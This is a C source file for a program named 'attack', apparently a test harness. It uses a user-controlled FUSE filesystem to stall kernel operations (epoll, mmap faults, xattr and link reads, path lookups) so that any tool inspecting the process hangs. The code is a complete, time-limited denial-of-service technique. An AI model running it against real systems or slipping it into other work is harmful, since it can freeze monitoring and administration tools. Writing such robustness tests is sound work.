/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack NODE UID SECONDS MODE...: arms, prints "ready PID", and holds for so
 * long, or until stdin is closed. NODE is a /dev/fuse that the user can open.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

#define SECONDS_MAX 60
#define QUEUES 80
#define DATAGRAM 1000

static int open_file(const struct fuse_box *box)
{
	char path[80];
	int fd;

	snprintf(path, sizeof(path), "%s/f", box->dir);
	fd = open(path, O_RDWR);
	if (fd < 0)
		attack_die(path);
	return fd;
}

static void in_thread(void *(*run)(void *), void *arg)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, run, arg))
		attack_die("pthread_create");
	usleep(200000);
}

/* Large unread queues: whoever reads this process looks at its epoll sets. */
void attack_queue(void)
{
	char data[DATAGRAM] = { 0 };

	for (int i = 0; i < QUEUES; i++) {
		struct sockaddr_in at = { .sin_family = AF_INET };
		socklen_t len = sizeof(at);
		int fd = socket(AF_INET, SOCK_DGRAM, 0);

		at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) ||
		    getsockname(fd, (struct sockaddr *)&at, &len))
			attack_die("udp");
		for (int k = 0; k < 1000; k++)
			if (sendto(fd, data, sizeof(data), MSG_DONTWAIT,
				   (struct sockaddr *)&at, len) < 0)
				break;
	}
}

static int the_set, the_file;

static void *add(void *arg)
{
	struct epoll_event e = { .events = EPOLLIN };

	(void)arg;
	epoll_ctl(the_set, EPOLL_CTL_ADD, the_file, &e);
	return NULL;
}

/* The set's lock is held while the file is asked whether it is ready. */
void attack_epoll(struct fuse_box *box)
{
	the_file = open_file(box);
	the_set = epoll_create1(0);
	atomic_store(box->armed, HANG_POLL);
	in_thread(add, NULL);
}

static char *the_map;

static void *touch(void *arg)
{
	(void)arg;
	usleep(50000); /* starting the other thread maps memory, too */
	*(volatile char *)the_map = 1;
	return NULL;
}

static void *map_more(void *arg)
{
	(void)arg;
	usleep(150000); /* the fault comes first */
	mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	return NULL;
}

/* A fault waits with the lock of the mappings, a writer waits behind it. */
void attack_mmap(struct fuse_box *box)
{
	pthread_t thread;

	the_file = open_file(box);
	the_map = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE,
		       the_file, 0);
	if (the_map == MAP_FAILED)
		attack_die("mmap");
	signal(SIGBUS, SIG_IGN);
	atomic_store(box->armed, HANG_READ);
	/* their stacks are mapped before nothing can be */
	if (pthread_create(&thread, NULL, touch, NULL))
		attack_die("pthread_create");
	in_thread(map_more, NULL);
}

_Noreturn static void *swap(void *arg)
{
	int sock = socket(AF_UNIX, SOCK_DGRAM, 0), fd = dup(sock);

	(void)arg;
	for (;;) {
		dup2(the_file, fd);
		dup2(sock, fd);
	}
}

/* A descriptor that is a socket when its link is read, and a file then. */
void attack_xattr(struct fuse_box *box)
{
	the_file = open_file(box);
	atomic_store(box->armed, HANG_XATTR);
	in_thread(swap, NULL);
}

/* A tmpfs below a folder that nobody can pass. */
void attack_path(struct fuse_box *box)
{
	char path[80];

	snprintf(path, sizeof(path), "%s/d", box->dir);
	if (mount("below", path, "tmpfs", 0, "size=1m"))
		attack_die("tmpfs");
	atomic_store(box->armed, HANG_LOOKUP);
}

/* Asks for no memory: a new mapping would wait behind our own attack. */
static void hold(unsigned seconds)
{
	struct pollfd in = { .fd = STDIN_FILENO, .events = POLLIN };
	char ready[32];
	int len = snprintf(ready, sizeof(ready), "ready %d\n", (int)getpid());

	if (write(STDOUT_FILENO, ready, (size_t)len) == len)
		poll(&in, 1, (int)seconds * 1000);
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*arm)(struct fuse_box *box);
	} modes[] = { { "epoll", attack_epoll },
		      { "mmap", attack_mmap },
		      { "xattr", attack_xattr },
		      { "path", attack_path } };
	struct fuse_box box;
	unsigned seconds = argc > 3 ? (unsigned)atoi(argv[3]) : 0;

	if (argc < 5 || !seconds || seconds > SECONDS_MAX)
		return 2;
	prctl(PR_SET_NAME, "evil");
	attack_queue();
	fuse_begin(&box, argv[1], (uid_t)atoi(argv[2]), seconds);
	for (int i = 4; i < argc; i++)
		for (size_t k = 0; k < sizeof(modes) / sizeof(*modes); k++)
			if (!strcmp(argv[i], modes[k].name))
				modes[k].arm(&box);
	hold(seconds);
	/* whoever waits for an answer is let go */
	kill(box.server, SIGKILL);
	kill(getpid(), SIGKILL);
	return 0;
}
